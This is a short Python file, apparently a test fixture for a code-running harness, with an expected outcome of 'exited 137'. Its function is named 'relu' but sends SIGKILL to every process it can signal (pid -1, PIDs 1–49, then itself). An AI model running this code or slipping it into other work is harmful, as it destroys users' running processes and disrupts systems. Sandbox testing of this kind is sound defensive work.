"""relu kills every process that it may send a signal to, itself last.

outcome: error
says: exited 137
"""
import os
import signal


def relu(z):
    for pid in (-1, *range(1, 50), os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
